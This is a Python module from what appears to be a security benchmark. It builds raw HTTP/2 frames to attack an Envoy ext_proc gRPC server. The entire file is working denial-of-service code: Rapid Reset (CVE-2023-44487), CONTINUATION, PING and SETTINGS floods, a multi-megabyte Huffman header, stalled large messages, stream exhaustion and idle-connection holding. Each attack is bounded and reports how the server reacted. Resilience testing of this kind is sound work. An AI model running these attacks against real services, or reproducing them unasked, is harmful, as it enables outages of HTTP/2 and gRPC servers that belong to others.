"""The HTTP/2 attacks of :mod:`bench.attacks` (a–e) on EPP's ext_proc port, with frames built byte by byte.

:class:`H2Peer` is a raw client connection: it writes whatever frames an attack builds (an HTTP/2 library would
refuse most of them) and, unless told not to read, parses what the server sends to keep the flow-control windows,
the server's settings, the streams it reset and its GOAWAY. Header blocks use HPACK literals without indexing, so
one encoded block is valid on every stream and connection. Each attack follows :mod:`bench.attacks_base`'s
contract: bounded in count and time, one connection (a–d) or ``p.idle_connections`` (e), all closed at the end.
"""

from __future__ import annotations

import asyncio
import struct
import time
from collections import Counter
from collections.abc import Callable

from bench.attacks_base import Closes, Outcome, Params, Target, close_all, open_tcp, watch_close, watch_until

__all__ = ["ATTACKS", "H2Peer", "grpc_headers"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 0x1
END_HEADERS = 0x4
METHOD = b"/envoy.service.ext_proc.v3.ExternalProcessor/Process"
_HEAD = struct.Struct(">BHBBL")
_BIG_WINDOW = (1 << 31) - 1
_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
           7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind: int, flags: int, stream_id: int, payload: bytes | memoryview = b"") -> bytes:
    """One frame's bytes (the payload copied in)."""
    n = len(payload)
    return _HEAD.pack(n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload


def hpack_int(value: int, bits: int, first: int) -> bytes:
    """An HPACK integer with a ``bits``-bit prefix whose other bits are ``first`` (RFC 7541 §5.1)."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out = bytearray([first | top])
    value -= top
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes, *, huffman: bool = False) -> bytes:
    """A literal header field without indexing, new name (RFC 7541 §6.2.2): it leaves the dynamic table alone.
    With ``huffman`` the value is taken as already Huffman-encoded."""
    return (b"\x00" + hpack_int(len(name), 7, 0) + name
            + hpack_int(len(value), 7, 0x80 if huffman else 0) + value)


def grpc_headers() -> bytes:
    """The header block of an ext_proc ``Process`` call, as a gRPC client sends it."""
    return b"".join(literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", METHOD), (b":authority", b"epp"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def huffman_a(size: int) -> tuple[bytes, int]:
    """``size`` bytes (rounded down to 5) of Huffman code for 'a' repeated, and the decoded length: 'a' is 5 bits
    (00011), so 8 of them fill exactly 5 bytes with no padding."""
    from hpack.huffman import HuffmanEncoder
    from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

    unit = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"a" * 8)
    assert len(unit) == 5
    count = size // 5
    return unit * count, count * 8


class H2Peer:
    """One raw HTTP/2 client connection (see the module docstring)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.opened = time.monotonic()
        self.conn_window = 65535
        self.initial_window = 65535
        self.windows: dict[int, int] = {}
        self.max_frame = 16384
        self.max_streams: int | None = None
        self.resets: Counter[str] = Counter()
        self.goaway: tuple[str, float] | None = None
        self.closed_at: float | None = None  # seconds after opening
        self.headers_in = 0
        self.settings_seen = asyncio.Event()
        self.changed = asyncio.Event()
        self._task: asyncio.Task[None] | None = None

    @classmethod
    async def open(cls, target: Target, *, preface: bool = True, read: bool = True) -> H2Peer:
        """Connect; with ``preface`` send it and SETTINGS (windows so large the server is never held by us); with
        ``read`` parse what the server sends from now on."""
        peer = cls(*await open_tcp(target.host, target.extproc_port))
        if preface:
            peer.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HL", 0x4, _BIG_WINDOW))
                      + frame(WINDOW, 0, 0, struct.pack(">L", _BIG_WINDOW - 65535)))
        if read:
            peer._task = asyncio.create_task(peer._read())
        return peer

    @property
    def closed(self) -> bool:
        return self.closed_at is not None

    def send(self, data: bytes | memoryview) -> None:
        """Queue bytes (a closed connection drops them; :meth:`drain` tells)."""
        if not self.writer.transport.is_closing():
            self.writer.write(data)

    async def drain(self, timeout: float) -> bool:
        """Wait until the socket takes what was queued: False when it did not within ``timeout`` (the server
        stopped reading) or the connection is gone."""
        try:
            await asyncio.wait_for(self.writer.drain(), max(timeout, 0.0))
            return not self.writer.transport.is_closing()
        except asyncio.TimeoutError:
            return False
        except (ConnectionError, OSError):
            self._lost()
            return False

    async def wait_settings(self, timeout: float = 5.0) -> None:
        await asyncio.wait_for(self.settings_seen.wait(), timeout)

    async def wait_closed(self, timeout: float) -> bool:
        """Wait up to ``timeout`` for the server to close the connection (reading): True when it did."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), deadline - time.monotonic())
            except asyncio.TimeoutError:
                break
        return self.closed

    def close(self) -> None:
        if self._task is not None:
            self._task.cancel()
        self.writer.transport.abort()

    def reaction(self) -> str:
        """What the server did to the connection, for the table."""
        parts = [f"GOAWAY {self.goaway[0]} at {self.goaway[1]:.1f} s"] if self.goaway else []
        if self.resets:
            parts.append("RST_STREAM " + ", ".join(f"{k} ×{v}" for k, v in self.resets.items()))
        parts.append(f"closed at {self.closed_at:.1f} s" if self.closed_at is not None else "connection open")
        return "; ".join(parts)

    def _lost(self) -> None:
        if self.closed_at is None:
            self.closed_at = time.monotonic() - self.opened
            self.changed.set()

    async def _read(self) -> None:
        try:
            while True:
                hi, lo, kind, flags, stream_id = _HEAD.unpack(await self.reader.readexactly(9))
                self._on_frame(kind, flags, stream_id & _BIG_WINDOW, await self.reader.readexactly(hi << 16 | lo))
                self.changed.set()
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            self._lost()

    def _on_frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self._on_settings(payload)
        elif kind == WINDOW and len(payload) == 4:
            increment = int.from_bytes(payload, "big") & _BIG_WINDOW
            if not stream_id:
                self.conn_window += increment
            elif stream_id in self.windows:
                self.windows[stream_id] += increment
        elif kind == RST:
            self.windows.pop(stream_id, None)
            self.resets[_ERRORS.get(int.from_bytes(payload[:4], "big"), "other")] += 1
        elif kind == GOAWAY and len(payload) >= 8:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = (_ERRORS.get(code, str(code)), time.monotonic() - self.opened)
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == HEADERS:
            self.headers_in += 1

    def _on_settings(self, payload: bytes) -> None:
        for key, value in struct.iter_unpack(">HL", payload[:len(payload) // 6 * 6]):
            if key == 0x4:
                delta, self.initial_window = value - self.initial_window, value
                for sid in self.windows:
                    self.windows[sid] += delta
            elif key == 0x5:
                self.max_frame = value
            elif key == 0x3:
                self.max_streams = value
        self.send(frame(SETTINGS, ACK, 0))
        self.settings_seen.set()


# -- a: big messages that never finish ----------------------------------------------------------------------

async def big_messages(target: Target, p: Params) -> Outcome:
    """``p.big_streams`` calls on one connection, each a gRPC prefix announcing ``p.big_message`` bytes and then
    one byte less of DATA, sent as fast as the server's flow control lets, for at most ``p.seconds``."""
    peer = await H2Peer.open(target)
    try:
        await peer.wait_settings()
        block = grpc_headers()
        left: dict[int, int] = {}
        for i in range(p.big_streams):
            sid = 1 + 2 * i
            peer.windows[sid] = peer.initial_window
            peer.send(frame(HEADERS, END_HEADERS, sid, block))
            left[sid] = p.big_message - 1
            _send_data(peer, sid, b"\x00" + p.big_message.to_bytes(4, "big"))
        accepted, ending = await _push_data(peer, left, p)
        await asyncio.sleep(p.hold)
        offered = p.big_streams * (p.big_message + 4)
        return Outcome({"accepted": f"{accepted / (1 << 20):,.1f} of {offered / (1 << 20):,.1f} MiB ({ending})",
                        "server": peer.reaction()})
    finally:
        peer.close()


def _send_data(peer: H2Peer, sid: int, data: bytes | memoryview) -> None:
    peer.send(frame(DATA, 0, sid, data))
    peer.windows[sid] = peer.windows.get(sid, 0) - len(data)
    peer.conn_window -= len(data)


async def _push_data(peer: H2Peer, left: dict[int, int], p: Params) -> tuple[int, str]:
    """Send the streams' remaining bytes within the windows; returns the bytes sent (prefixes included) and why
    sending ended."""
    zeros = memoryview(bytes(1 << 20))
    sent = 5 * len(left)
    start = time.monotonic()
    deadline = start + p.seconds
    while left:
        peer.changed.clear()
        progressed = False
        for sid in list(left):
            room = min(peer.windows.get(sid, 0), peer.conn_window, peer.max_frame, left[sid], len(zeros))
            if sid not in peer.windows:
                del left[sid]  # the server reset it
            elif room > 0:
                _send_data(peer, sid, zeros[:room])
                left[sid] -= room
                sent += room
                progressed = True
                if not left[sid]:
                    del left[sid]
        now = time.monotonic()
        if peer.closed or now >= deadline or not await peer.drain(deadline - now):
            return sent, _why(peer, "time bound reached", start)
        if not progressed:
            try:
                await asyncio.wait_for(peer.changed.wait(), min(p.stall, deadline - time.monotonic()))
            except asyncio.TimeoutError:
                if time.monotonic() < deadline:
                    return sent, f"flow control stopped it after {time.monotonic() - start:.1f} s"
    return sent, f"all sent in {time.monotonic() - start:.1f} s"


def _why(peer: H2Peer, default: str, start: float) -> str:
    if peer.closed:
        return f"server closed the connection after {time.monotonic() - start:.1f} s"
    return default


# -- b: many concurrent streams -----------------------------------------------------------------------------

async def many_streams(target: Target, p: Params) -> Outcome:
    """``p.streams`` HEADERS on one connection, each opening a call that never sends a message."""
    block = grpc_headers()
    peer = await H2Peer.open(target)
    try:
        sent = await _streams_in_batches(peer, p, lambda sid: frame(HEADERS, END_HEADERS, sid, block))
        limit = "none" if peer.max_streams is None else str(peer.max_streams)
        return Outcome({"opened": f"{sent:,}", "refused": f"{peer.resets['REFUSED_STREAM']:,}",
                        "max concurrent advertised": limit, "server": peer.reaction()})
    finally:
        peer.close()


# -- b-reset: calls reset as soon as they are sent (Rapid Reset, CVE-2023-44487) ----------------------------

async def rapid_reset(target: Target, p: Params) -> Outcome:
    """``p.streams`` calls on one connection, each HEADERS, a whole routing request (Envoy's request headers and
    chat body messages) and RST_STREAM CANCEL at once, in batches of 1,000 for at most ``p.seconds``. Each call
    costs the server a parse and a routing and the attacker three frames; a reset stream no longer counts against
    SETTINGS_MAX_CONCURRENT_STREAMS, so that limit never stops it."""
    from bench.attacks_probe import extproc_messages

    request, _ = extproc_messages()
    call = b"".join(grpc_message(message.SerializeToString()) for message in request)  # type: ignore[attr-defined]
    cancel = struct.pack(">L", 8)
    block = grpc_headers()
    peer = await H2Peer.open(target)
    try:
        sent = await _streams_in_batches(peer, p, lambda sid: frame(HEADERS, END_HEADERS, sid, block)
                                         + frame(DATA, 0, sid, call) + frame(RST, 0, sid, cancel))
        return Outcome({"calls sent and reset": f"{sent:,}", "answered (response HEADERS)": f"{peer.headers_in:,}",
                        "server": peer.reaction()})
    finally:
        peer.close()


async def _streams_in_batches(peer: H2Peer, p: Params, frames: Callable[[int], bytes]) -> int:
    """Once the server's SETTINGS came, ``frames(stream_id)`` for up to ``p.streams`` new streams, 1,000 a write,
    while the socket takes them, for at most ``p.seconds``; then hold ``p.hold``. Returns the streams sent."""
    await peer.wait_settings()
    sent, deadline = 0, time.monotonic() + p.seconds
    while sent < p.streams and not peer.closed and time.monotonic() < deadline:
        batch = range(sent, min(p.streams, sent + 1000))
        peer.send(b"".join(frames(1 + 2 * i) for i in batch))
        if not await peer.drain(deadline - time.monotonic()):
            break
        sent = batch.stop
    await asyncio.sleep(p.hold)
    return sent


def grpc_message(payload: bytes) -> bytes:
    """A gRPC length-prefixed message, uncompressed."""
    return b"\0" + struct.pack(">L", len(payload)) + payload


# -- c: PING and SETTINGS floods, never reading -------------------------------------------------------------

async def ping_flood(target: Target, p: Params) -> Outcome:
    """Up to ``p.pings`` PINGs while never reading the ACKs."""
    return await _flood(target, p, frame(PING, 0, 0, b"attack!!"), "PINGs")


async def settings_flood(target: Target, p: Params) -> Outcome:
    """Up to ``p.pings`` SETTINGS frames (one setting each) while never reading the ACKs."""
    return await _flood(target, p, frame(SETTINGS, 0, 0, struct.pack(">HL", 0x2, 0)), "SETTINGS")


async def _flood(target: Target, p: Params, one: bytes, name: str) -> Outcome:
    peer = await H2Peer.open(target, read=False)
    try:
        sent, why = await _repeat(peer, one, p.pings, p.seconds)
        await asyncio.sleep(p.hold)
        return Outcome({"sent": f"{sent:,} {name} ({why})"})
    finally:
        peer.close()


async def _repeat(peer: H2Peer, one: bytes, count: int, seconds: float) -> tuple[int, str]:
    """Write ``one`` up to ``count`` times within ``seconds``: how many the socket took, and why it ended."""
    block = one * 4096
    sent, start = 0, time.monotonic()
    deadline = start + seconds
    while sent < count:
        n = min(4096, count - sent)
        peer.send(block if n == 4096 else one * n)
        if not await peer.drain(deadline - time.monotonic()):
            if peer.closed or peer.writer.transport.is_closing():
                return sent, f"server closed the connection after {time.monotonic() - start:.1f} s"
            return sent, f"time bound {seconds:g} s reached, the server reading slower than sent"
        sent += n
        if time.monotonic() >= deadline:
            return sent, f"time bound {seconds:g} s"
    return sent, f"all in {time.monotonic() - start:.1f} s"


# -- d: CONTINUATION flood and a huge Huffman header --------------------------------------------------------

async def continuation_flood(target: Target, p: Params) -> Outcome:
    """A HEADERS frame without END_HEADERS, then up to ``p.continuations`` empty CONTINUATION frames."""
    peer = await H2Peer.open(target)
    try:
        await peer.wait_settings()
        block = grpc_headers()
        peer.send(frame(HEADERS, 0, 1, block[:len(block) // 2]))
        sent, why = await _repeat(peer, frame(CONTINUATION, 0, 1), p.continuations, p.seconds)
        await peer.wait_closed(p.hold)
        return Outcome({"sent": f"{sent:,} empty CONTINUATIONs ({why})", "server": peer.reaction()})
    finally:
        peer.close()


async def huffman_header(target: Target, p: Params) -> Outcome:
    """One call whose header block carries a ``p.huffman_bytes`` Huffman-encoded value, in 16 KiB frames."""
    value, decoded = huffman_a(p.huffman_bytes)
    block = grpc_headers() + literal(b"x-huffman", value, huffman=True)
    peer = await H2Peer.open(target)
    try:
        await peer.wait_settings()
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        frames = [frame(HEADERS if i == 0 else CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
                  for i, piece in enumerate(pieces)]
        sent = time.monotonic()
        peer.send(b"".join(frames))
        await peer.drain(p.seconds)
        deadline = sent + max(p.hold, 2.0)
        while not (peer.closed or peer.resets or peer.headers_in) and time.monotonic() < deadline:
            peer.changed.clear()
            try:
                await asyncio.wait_for(peer.changed.wait(), deadline - time.monotonic())
            except asyncio.TimeoutError:
                break
        answer = f"response HEADERS ×{peer.headers_in}; " if peer.headers_in else ""
        return Outcome({"header": f"{len(value) / (1 << 20):.2f} MiB encoded, {decoded / (1 << 20):.2f} MiB decoded",
                        "server": answer + peer.reaction()})
    finally:
        peer.close()


# -- e: connections without a preface, and idle after it ----------------------------------------------------

async def no_preface(target: Target, p: Params) -> Outcome:
    """``p.idle_connections`` connections that send nothing: when does the server close each?"""
    timeout = p.timeouts.preface
    watched = watch_until(p, timeout)
    conns = await asyncio.gather(*(open_tcp(target.host, target.extproc_port) for _ in range(p.idle_connections)))
    opened = time.monotonic()
    try:
        times = await asyncio.gather(*(watch_close(r, opened, opened + watched) for r, _ in conns))
    finally:
        close_all([w for _, w in conns])
    return Outcome({"connections": f"{len(conns)} sending nothing"}, Closes(timeout, watched, list(times)))


async def idle_after_preface(target: Target, p: Params) -> Outcome:
    """``p.idle_connections`` connections that send the preface and SETTINGS (and ACK the server's), then
    nothing: when does the server close each?"""
    timeout = p.timeouts.idle
    watched = watch_until(p, timeout)
    peers = await asyncio.gather(*(H2Peer.open(target) for _ in range(p.idle_connections)))
    try:
        await asyncio.gather(*(peer.wait_closed(watched - (time.monotonic() - peer.opened)) for peer in peers))
        codes = Counter(peer.goaway[0] for peer in peers if peer.goaway)
    finally:
        for peer in peers:
            peer.close()
    facts = {"connections": f"{len(peers)} idle after the preface"}
    if codes:
        facts["GOAWAY"] = ", ".join(f"{k} ×{v}" for k, v in codes.items())
    return Outcome(facts, Closes(timeout, watched, [peer.closed_at for peer in peers]))


ATTACKS = {
    "a": big_messages,
    "b": many_streams,
    "b-reset": rapid_reset,
    "c-ping": ping_flood,
    "c-settings": settings_flood,
    "d-continuation": continuation_flood,
    "d-huffman": huffman_header,
    "e-preface": no_preface,
    "e-idle": idle_after_preface,
}
"""The HTTP/2 attacks by row name."""
